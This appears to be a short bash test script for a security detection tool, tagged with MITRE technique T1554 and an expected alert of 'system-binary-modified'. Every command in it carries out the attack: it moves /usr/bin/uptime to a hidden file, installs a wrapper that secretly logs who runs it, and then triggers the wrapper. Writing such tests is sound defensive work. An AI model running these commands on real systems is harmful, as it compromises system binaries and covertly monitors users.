#!/bin/bash
# Trojanize a system program: move /usr/bin/uptime aside into /usr/lib and put a wrapper in
# its place that logs who ran it before running the real one; then run it once.
# technique: T1554
# expect: system-binary-modified
set -eu
mv /usr/bin/uptime /usr/lib/.uptime.real
cat > /usr/bin/uptime <<'SH'
#!/bin/sh
echo "$(id -un) $*" >> /tmp/.uptime-log
exec /usr/lib/.uptime.real "$@"
SH
chmod 755 /usr/bin/uptime
uptime
cat /tmp/.uptime-log
